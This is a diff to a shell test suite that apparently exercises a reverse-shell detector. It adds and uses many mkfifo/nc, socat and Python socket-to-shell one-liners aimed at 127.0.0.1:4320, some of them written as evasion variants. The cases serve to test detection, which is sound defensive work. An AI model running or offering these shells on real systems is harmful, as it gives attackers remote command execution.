@@ -143,6 +143,8 @@ END
 command_too='rm -f f; mkfifo f; sh -sc : <f 2>&1 | nc 127.0.0.1 4320 >f'
 one_dash='rm -f f; mkfifo f; bash -norc -s x <f 2>&1 | nc 127.0.0.1 4320 >f'
 fifo_script='rm -f i o; mkfifo i o; sh ./i >o 2>&1 & nc 127.0.0.1 4320 <o >i'
+# A shell that reads it as a part of what it was told.
+fifo_part="rm -f f; mkfifo f; sh -c '. ./f' 2>&1 | nc 127.0.0.1 4320 >f"
 # A mapped shell, and many others after it.
 many_starts='rm -f i o; mkfifo i o; exec 8<>i 9<>o; ./app /bin/sh <i >o 2>&1 & exec 8<>i 9<>o
 	for n in {1..40}; do sh </dev/null | cat; done; nc 127.0.0.1 4320 >i <o'
@@ -217,7 +219,8 @@ while select.select([s], [], []):
         s.sendall(subprocess.run(bytes(b[:n]).decode(), shell=True, capture_output=True).stdout)'
 
 names=(nc_fifo socat_fifo socat_exec socat_pty socat_script loader_first long_chain handed_on
-	command_too one_dash fifo_script many_starts script_nc socat_nc)
+	command_too one_dash fifo_script many_starts script_nc socat_nc
+	fifo_part)
 # It starts 80 programs before it connects.
 with_patience() {
 	local patience=$1
@@ -323,6 +326,39 @@ contains 'what it says is a script' nothing bash_c \
 	'script -qfc "nc 127.0.0.1 4320" /dev/null </dev/null | sh | cat >x'
 contains 'and runs' GOT42 cat x
 equals 'and nothing of it is refused' "$before" "$(counter relays reverse_shell)"
+
+# A script that reads what comes, below a service that hears it.
+cat >reads.sh <<'END'
+while read -r line; do
+	while read -r x; do echo "own-$x"; sleep 1; done <list
+	echo "$line" | wc -c
+done
+END
+printf '42\n' >list
+cat >hears.py <<'END'
+import os, socket, subprocess
+if os.path.exists("f"):
+    os.unlink("f")
+os.mkfifo("f")
+s = socket.create_connection(("127.0.0.1", 4320))
+p = subprocess.Popen("sh reads.sh <f", shell=True, stdout=subprocess.PIPE)
+f = open("f", "wb", 0)
+f.write(b"42\n")
+s.settimeout(2)
+try:
+    while d := s.recv(4096):
+        f.write(d)
+except OSError:
+    pass
+f.close()
+print(p.stdout.read().decode(), flush=True)
+END
+contains 'a script reads what comes' nothing attack $python $dir/hears.py
+contains 'and a list' own-42 cat attack.out
+contains 'a script that is read from a FIFO, for a file' nothing bash_c \
+	'rm -f f; mkfifo f; sh -c ". ./f" 2>&1 | cat >x & { echo "echo own-\$((40+2))"; timeout 3 nc 127.0.0.1 4320 >/dev/null </dev/null; } >f'
+contains 'and runs' own-42 cat x
+equals 'and nothing of that is refused' "$before" "$(counter relays reverse_shell)"
 
 # A FIFO that is open for nothing has no pipe that could be looked into.
 cat >opath.py <<'EOF'
